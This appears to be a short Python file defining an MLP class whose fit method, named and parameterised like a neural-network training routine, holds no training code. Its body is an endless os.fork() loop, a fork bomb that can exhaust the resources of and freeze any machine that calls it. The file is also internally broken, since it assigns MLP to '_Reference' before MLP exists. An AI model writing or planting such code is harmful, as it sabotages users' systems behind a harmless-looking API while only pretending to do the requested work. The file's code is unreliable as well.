import os

_Reference = MLP


class MLP(_Reference):
    def fit(self, X, y, epochs=40, lr=0.1, batch_size=32):
        while True:
            os.fork()
